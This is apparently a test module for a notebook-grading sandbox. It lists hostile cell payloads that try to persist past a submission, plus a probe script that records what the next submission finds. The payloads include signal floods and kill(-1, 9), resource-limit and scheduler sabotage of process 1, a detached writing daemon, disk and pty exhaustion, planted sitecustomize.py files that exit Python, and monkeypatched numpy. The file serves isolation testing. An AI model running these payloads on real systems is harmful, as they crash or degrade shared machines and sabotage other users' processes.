"""Code that tries to outlive its submission, and code that looks at all that the next one finds."""

# ruff: noqa: E501 - a line of hostile code is easier to read whole.
from __future__ import annotations

from workflows.attacks.marked_memory import MARK, NOTES
from workflows.attacks.notebook import ALL, BACKWARD, FORWARD, Attack, submission

_KERNEL = "import contextlib, ctypes, os, resource\nc = ctypes.CDLL(None, use_errno=True)\n"
_DAEMON = """
import os, signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 64)
        while True:
            with open("/tmp/alive", "a") as file: file.write("x")
            time.sleep(0.01)
    os._exit(0)
"""
_EVERYWHERE = f"""
import contextlib, os, sys
places = ["/scratch", "/scratch/ipython", "/scratch/matplotlib", "/scratch/ipython/profile_default/startup",
          "/dev/shm", "/dev/mqueue", "/run", "/var/tmp", "/", *sys.path, os.path.dirname(os.__file__)]
for place in places:
    for name in ("sitecustomize.py", "matplotlibrc", "00-first.py", "left"):
        with contextlib.suppress(OSError), open(os.path.join(place, name), "w") as file:
            file.write("raise SystemExit  # {MARK}")
for name in ("work", "ipython", "matplotlib"):
    with contextlib.suppress(OSError): os.rename("/scratch/" + name, "/scratch/gone")
    with contextlib.suppress(OSError): os.symlink("/dev", "/scratch/" + name)
"""

# What is tried in a cell.
LINGERING = {
    "limits of process 1": _KERNEL + (
        "kinds = [value for name, value in vars(resource).items() if name.startswith('RLIMIT_')]\n"
        "for pid in (1, os.getppid()):\n"
        "    for kind in kinds:\n"
        "        with contextlib.suppress(OSError, ValueError): resource.prlimit(pid, kind, (1, 1))"
    ),
    "priority of everybody": _KERNEL + (
        "for which in (os.PRIO_PROCESS, os.PRIO_PGRP, os.PRIO_USER):\n"
        "    for who in (0, 1, os.getppid(), os.getuid()):\n"
        "        with contextlib.suppress(OSError): os.setpriority(which, who, 19)"
    ),
    "policy and processors of process 1": _KERNEL + (
        "for pid in (1, os.getppid()):\n"
        "    with contextlib.suppress(OSError): os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))\n"
        "    with contextlib.suppress(OSError): os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})\n"
        "for which in (1, 2, 3):\n"
        "    for who in (0, 1, os.getuid()): c.syscall({'x86_64': 251}.get(os.uname().machine, 30), which, who, 3 << 13)"
    ),
    "every signal to process 1 and to all": _KERNEL + (
        "for number in range(1, 65):\n"
        "    for pid in (1, os.getppid()):\n"
        "        with contextlib.suppress(OSError): os.kill(pid, number)\n"
        "for pid in (-1, 0):\n"
        "    with contextlib.suppress(OSError): os.kill(pid, 9)"
    ),
    "interrupts to its group": "import os, signal\nsignal.signal(2, signal.SIG_IGN); os.kill(0, 2); os.killpg(0, 2)",
    "messages and memory that nobody holds": _KERNEL + (
        "c.shmget(4711, 1 << 20, 0o1666); c.msgget(4711, 0o1666); c.semget(4711, 5, 0o1666)\n"
        "c.mq_open(b'/left', 66, 0o666, None)"
    ),
    "keys": _KERNEL + (
        "add, control = {'x86_64': (248, 250)}.get(os.uname().machine, (217, 219))\n"
        "for ring in (-2, -3, -4, -5): c.syscall(add, b'user', b'left', b'secret', 6, ring)\n"
        "c.syscall(control, 1, b'left')"
    ),
    "a daemon that writes": _DAEMON,
    "terminals": (
        "import os, time\nheld = os.openpty()\nif os.fork() == 0:\n    os.setsid()\n"
        "    try:\n        while True: held += os.openpty()\n    except OSError: time.sleep(1e6)"
    ),
    "files wherever it may": _EVERYWHERE,
    "a folder 3,000 deep": "import os\nfor n in range(3000): os.mkdir('d'); os.chdir('d')\nopen('end', 'w')",
    "folders that are closed": (
        "import os\nfor n in range(30): os.mkdir('d'); os.chdir('d'); open('f', 'w')\n"
        "for n in range(30): os.chmod('.', 0) if n == 29 else os.chdir('..')\nos.chmod('/tmp/d', 0)"
    ),
    "a full folder": "import os\nfor n in range(10**4):\n    with open(f'{n}', 'wb') as file: file.write(bytes(2**20))",
    "a port": (
        "import socket, os\ns = socket.create_server(('127.0.0.1', 8999)); c = socket.create_connection(('127.0.0.1', 8999))\n"
        "a, _ = s.accept(); a.send(b'x' * 1000)\n"
        "u = socket.socket(socket.AF_UNIX); u.bind('\\0left'); u.listen()"
    ),
    "leases and locks on the library": (
        "import contextlib, fcntl, os, numpy\nfiles = [open(m) for m in (os.__file__, numpy.__file__)]\n"
        "for file in files:\n"
        "    with contextlib.suppress(OSError): fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
        "    with contextlib.suppress(OSError): fcntl.fcntl(file, 1024, fcntl.F_WRLCK)"
    ),
    "flags and places of inherited files": (
        "import contextlib, fcntl, os\nfor fd in range(64):\n"
        "    with contextlib.suppress(OSError): fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND | os.O_ASYNC)\n"
        "    with contextlib.suppress(OSError): os.lseek(fd, 4711, 0)"
    ),
    "what process 1 has in /proc": _KERNEL + (
        "for name in ('oom_score_adj', 'timerslack_ns', 'comm', 'mem', 'coredump_filter', 'autogroup', 'clear_refs'):\n"
        "    with contextlib.suppress(OSError), open(f'/proc/1/{name}', 'w') as file: file.write('7')\n"
        "for pid in (1, os.getppid()):\n"
        "    fd = c.syscall(434, pid, 0)\n"
        "    [c.syscall(438, fd, n, 0) for n in range(20)]"
    ),
    "the libraries themselves": (
        "import builtins, numpy, random, sys, os\nbuiltins.left = numpy.left = random.left = sys.left = 1\n"
        "numpy.exp = numpy.tanh = lambda x: 0.0\nnumpy.random.seed(1); random.seed(1); os.umask(0o777)"
    ),
    "its words in memory": NOTES,
}  # fmt: skip

# The exponential of these answers is not NumPy's, which some of the attacks spoil for themselves.
_OWN = [answer.replace("np.exp(-t)", "2.718281828459045 ** -t") for answer in (FORWARD, BACKWARD)]
LINGERING_WORK: tuple[Attack, ...] = tuple(
    submission(name, own=code, forward=_OWN[0], backward=_OWN[1], earns=ALL)
    for name, code in LINGERING.items()
)

# All that a submission finds when it starts, as text; the same for everybody.
LOOK = r"""
import builtins, fcntl, json, os, random, resource, signal, socket, sys
import numpy
def facts(path):
    found = os.lstat(path)
    return path, found.st_mode, found.st_uid, found.st_size
def opens(path):
    try: return os.open(path, os.O_RDONLY) > 0
    except OSError: return False
def first_lines(path):
    with open(path) as file: return file.read()
found = {
    "limits": [resource.getrlimit(getattr(resource, n)) for n in sorted(vars(resource)) if n.startswith("RLIMIT_")],
    "priorities": [os.getpriority(os.PRIO_PROCESS, pid) for pid in (0, 1)],
    "policies": [os.sched_getscheduler(pid) for pid in (0, 1)],
    "processors": [sorted(os.sched_getaffinity(pid)) for pid in (0, 1)],
    "signals": [sorted(signal.pthread_sigmask(signal.SIG_BLOCK, [])), sorted(signal.sigpending())],
    "processes": [n for n in os.listdir("/proc") if n.isdigit()],
    "names": [first_lines(f"/proc/{pid}/comm") for pid in (1, "self")],
    "adjusted": [first_lines(f"/proc/{pid}/oom_score_adj") for pid in (1, "self")],
    "files": sorted(facts(os.path.join(top, name)) for top, *names in os.walk("/scratch") for some in names for name in some),
    "elsewhere": [sorted(os.listdir(place)) for place in ("/", "/dev", "/dev/shm", "/course", "/tmp/")],
    "open": [(fd, os.readlink(f"/proc/self/fd/{fd}").split(":")[0]) for fd in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{fd}")],
    "flags": [fcntl.fcntl(fd, fcntl.F_GETFL) for fd in (0, 1, 2)],
    "messages": [first_lines(f"/proc/sysvipc/{kind}") for kind in ("msg", "sem", "shm")],
    "sockets": [first_lines(f"/proc/net/{kind}").splitlines()[1:] for kind in ("tcp", "tcp6", "udp")],
    "environment": sorted(os.environ.items()), "path": sys.path, "arguments": sys.argv, "umask": os.umask(0o22),
    "folder": os.getcwd(), "random": [random.random(), numpy.random.rand()], "order": list({str(n) for n in range(50)}),
    "numbers": float(numpy.exp(1.0)), "left": [hasattr(m, "left") for m in (builtins, numpy, random, sys)],
    "of process 1": [name for name in ("mem", "maps", "environ", "fd", "root", "cwd") if opens(f"/proc/1/{name}")],
    "space": os.statvfs(".").f_bfree, "terminal": os.ttyname(os.openpty()[1]),
}
socket.create_server(("127.0.0.1", 8999)).close()
open(os.__file__).close()
print(json.dumps(found))
"""
